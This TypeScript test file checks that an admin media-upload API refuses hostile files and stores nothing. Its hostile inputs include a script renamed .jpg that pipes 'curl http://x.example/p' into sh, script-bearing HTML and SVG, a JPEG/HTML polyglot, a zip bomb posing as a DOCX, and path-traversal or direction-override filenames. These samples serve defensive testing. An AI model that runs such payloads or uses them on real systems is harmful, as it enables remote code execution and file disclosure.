import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Problem } from '@pbgdpl/contract';
import { openDatabase } from '../src/db/connection.ts';
import { type RunningServer, startServer } from '../src/server.ts';
import {
  demoFile,
  docxBomb,
  jpegHtmlPolyglot,
  photoWithLocation,
  png,
  SVG_WITH_SCRIPT,
  UNSAFE_SVGS,
} from './fixtures/media-files.ts';
import { type TestApp, testConfig } from './helpers.ts';
import { ADMIN, libraryState } from './media-support.ts';

/**
 * Hostile uploads against a real server on a real socket: each gets a clear 4xx naming the
 * problem (Vietnamese by default), and nothing of it is stored: no entry, no stored file or
 * chunk, nothing left in the incoming folder. Images are limited to 1 MB here, so that "too
 * large" is quick to send.
 */

let server: RunningServer;
let t: Pick<TestApp, 'config' | 'database'>;

before(async () => {
  const config = {
    ...(await testConfig({ PBGDPL_ADMIN_TOKEN: ADMIN, PBGDPL_MEDIA_IMAGE_MB: '1' })),
    port: 0,
  };
  server = await startServer(config);
  // A second connection to look at what the server stored.
  const database = openDatabase(config.database);
  t = { config, database };
});
after(async () => {
  await t.database.close();
  await server.close();
});

const EMPTY = { entries: 0, variants: 0, chunks: 0, files: [], incoming: [] };
const uploadUrl = (query = '') => new URL(`api/v1/admin/media${query}`, server.url);

/** Sends a browser-like multipart form with fetch. */
async function send(bytes: Uint8Array | string, name: string, extra: (form: FormData) => void = () => {}) {
  const form = new FormData();
  form.append('file', new Blob([bytes]), name);
  extra(form);
  return fetch(uploadUrl(), { method: 'POST', headers: { Authorization: `Bearer ${ADMIN}` }, body: form });
}

const BOUNDARY = '----pbgdpl-hostile-0123456789';
const partHead = (name: string) =>
  Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n` +
      'Content-Type: application/octet-stream\r\n\r\n',
  );
const formEnd = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);

/**
 * A request written by hand: `start` is sent, then `rest` only if `sendRest` says so once the
 * server has answered or not. Resolves with the status and body, or 'closed' when the server
 * never answered.
 */
function rawUpload(options: {
  start: Buffer;
  contentLength?: number;
  rest?: Buffer;
  hangUpAfterStart?: boolean;
}): Promise<{ status: number; body: string } | 'closed'> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = {
      Authorization: `Bearer ${ADMIN}`,
      'Content-Type': `multipart/form-data; boundary=${BOUNDARY}`,
    };
    if (options.contentLength !== undefined) headers['Content-Length'] = options.contentLength;
    const req = request(uploadUrl(), { method: 'POST', headers });
    req.on('response', (response) => {
      let body = '';
      response.on('data', (chunk: Buffer) => (body += String(chunk)));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
      // The server may close while we still send: the answer already arrived.
      req.on('error', () => undefined);
    });
    req.on('error', (error) => (options.hangUpAfterStart ? resolve('closed') : reject(error)));
    req.write(options.start, () => {
      if (options.hangUpAfterStart) {
        req.destroy();
        resolve('closed');
      } else if (options.rest) req.end(options.rest);
      else if (options.contentLength === undefined) req.end();
    });
  });
}

async function expectRefused(
  response: Response | { status: number; body: string },
  status: number,
  message: RegExp,
) {
  const body =
    'body' in response && typeof response.body === 'string'
      ? response.body
      : await (response as Response).text();
  assert.equal(response.status, status, body);
  const problem = JSON.parse(body) as Problem;
  assert.match(problem.detail ?? '', message);
  assert.deepEqual(await libraryState(t as TestApp), EMPTY, 'nothing stored');
}

test('a script renamed .jpg, and an HTML page renamed .png: not a format we take (415)', async () => {
  await expectRefused(
    await send('#!/bin/sh\ncurl http://x.example/p | sh\n', 'anh.jpg'),
    415,
    /^Định dạng không được hỗ trợ/,
  );
  await expectRefused(
    await send('<html><script>alert(1)</script></html>', 'anh.png'),
    415,
    /^Định dạng không được hỗ trợ/,
  );
});

test('an SVG with a script, and every other way an SVG could run or fetch something (422)', async () => {
  await expectRefused(
    await send(SVG_WITH_SCRIPT, 'bieu-do.svg'),
    422,
    /^SVG có nội dung không an toàn \(<script>\)/,
  );
  for (const [what, svg] of Object.entries(UNSAFE_SVGS))
    await expectRefused(await send(svg, `${what}.svg`), 422, /^SVG có nội dung không an toàn/);
});

test('a JPEG that is also an HTML page (422)', async () => {
  await expectRefused(await send(await jpegHtmlPolyglot(), 'anh-dep.jpg'), 422, /^Ảnh có chứa mã HTML/);
});

test('a zip bomb disguised as DOCX, honest or lying about its size (422)', async () => {
  const bytes = 60 * 1024 * 1024;
  await expectRefused(await send(docxBomb(bytes), 'nghi-quyet.docx'), 422, /bom nén/);
  await expectRefused(await send(docxBomb(bytes, 1000), 'nghi-quyet.docx'), 422, /^Không đọc được tệp/);
});

test('an empty file (400)', async () => {
  await expectRefused(await send('', 'trong.pdf'), 400, /^Tệp rỗng/);
});

test('a file over its kind’s limit is refused as it streams, before the rest is sent (413)', async () => {
  // A PNG head, then 1.5 MB of a 6 MB file; the rest is never sent unless the server waits for it.
  const start = Buffer.concat([partHead('to.png'), await png(8, 8), Buffer.alloc(1.5 * 1024 * 1024, 7)]);
  const answer = await rawUpload({ start, contentLength: start.length + 6 * 1024 * 1024 });
  assert.notEqual(answer, 'closed');
  if (answer !== 'closed') await expectRefused(answer, 413, /^Tệp quá lớn \(tối đa 1 MB\)/);
});

test('a body declared larger than any file may be is refused before reading it (413)', async () => {
  const answer = await rawUpload({ start: partHead('phim.mp4'), contentLength: 20 * 1024 * 1024 * 1024 });
  assert.notEqual(answer, 'closed');
  if (answer !== 'closed') await expectRefused(answer, 413, /^Tệp quá lớn \(tối đa 1024 MB\)/);
});

test('file names with a path, control or direction characters (400, naming the file)', async () => {
  const image = await png(8, 8);
  for (const name of [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    'anh\t.png',
    'anh\u202egnp.exe',
    '.htaccess',
  ]) {
    const response = await send(image, name);
    const body = (await response.clone().json()) as Problem;
    assert.equal(response.status, 400, name);
    assert.ok(body.errors?.file?.length, `${name}: ${JSON.stringify(body)}`);
    await expectRefused(response, 400, /trường không hợp lệ/);
  }
  // A control character other than tab cannot stand in a header as it is: it arrives encoded (RFC 5987).
  const encoded = Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''anh%07.png\r\n\r\n`,
  );
  const start = Buffer.concat([encoded, image, formEnd]);
  const answer = await rawUpload({ start, contentLength: start.length });
  assert.notEqual(answer, 'closed');
  if (answer !== 'closed') await expectRefused(answer, 400, /trường không hợp lệ/);
});

test('a truncated multipart body (400)', async () => {
  const whole = Buffer.concat([partHead('van-ban.pdf'), demoFile('documents/45-2019-qd-ubnd.pdf'), formEnd]);
  const cut = whole.subarray(0, whole.length - 300);
  const answer = await rawUpload({ start: cut, contentLength: cut.length });
  assert.notEqual(answer, 'closed');
  if (answer !== 'closed') await expectRefused(answer, 400, /bị cắt ngang/);
});

test('a client that disconnects mid-upload leaves no partial file', async () => {
  const start = Buffer.concat([partHead('phim.mp4'), demoFile('videos/hoa-giai-tranh-chap-ranh-dat.mp4')]);
  assert.equal(await rawUpload({ start, contentLength: start.length * 3, hangUpAfterStart: true }), 'closed');
  // The server notices the closed socket on its own time: wait (bounded) for it to clean up.
  for (let i = 0; i < 100 && (await libraryState(t as TestApp)).incoming.length > 0; i++) await sleep(50);
  assert.deepEqual(await libraryState(t as TestApp), EMPTY);
});

test('a file that is not what its head claims: video, PDF (422)', async () => {
  const fakeMp4 = Buffer.concat([
    demoFile('videos/hoa-giai-tranh-chap-ranh-dat.mp4').subarray(0, 32),
    Buffer.alloc(9000, 1),
  ]);
  await expectRefused(await send(fakeMp4, 'phim.mp4'), 422, /^Không đọc được video/);
  await expectRefused(
    await send(`%PDF-1.7\n${'x'.repeat(5000)}`, 'van-ban.pdf'),
    422,
    /^Không đọc được tệp PDF/,
  );
});

test('a truncated picture: a JPEG and a PNG cut off halfway (422)', async () => {
  const photo = await photoWithLocation(800, 600);
  await expectRefused(
    await send(photo.subarray(0, photo.length >> 1), 'anh-cat.jpg'),
    422,
    /^Không đọc được ảnh/,
  );
  const image = await png(400, 300);
  await expectRefused(
    await send(image.subarray(0, image.length >> 1), 'anh-cat.png'),
    422,
    /^Không đọc được ảnh/,
  );
});

test('two files in one upload, or a body that is not a form (400, 415)', async () => {
  const image = await png(8, 8);
  await expectRefused(
    await send(image, 'a.png', (form) => form.append('file', new Blob([image]), 'b.png')),
    400,
    /một tệp/,
  );
  const json = await fetch(uploadUrl(), {
    method: 'POST',
    headers: { Authorization: `Bearer ${ADMIN}`, 'Content-Type': 'application/json' },
    body: '{}',
  });
  assert.equal(json.status, 415);
});

test('English on request', async () => {
  const response = await fetch(uploadUrl(), {
    method: 'POST',
    headers: { Authorization: `Bearer ${ADMIN}`, 'Accept-Language': 'en' },
    body: (() => {
      const form = new FormData();
      form.append('file', new Blob(['#!/bin/sh']), 'x.jpg');
      return form;
    })(),
  });
  await expectRefused(response, 415, /^This file type is not supported/);
});
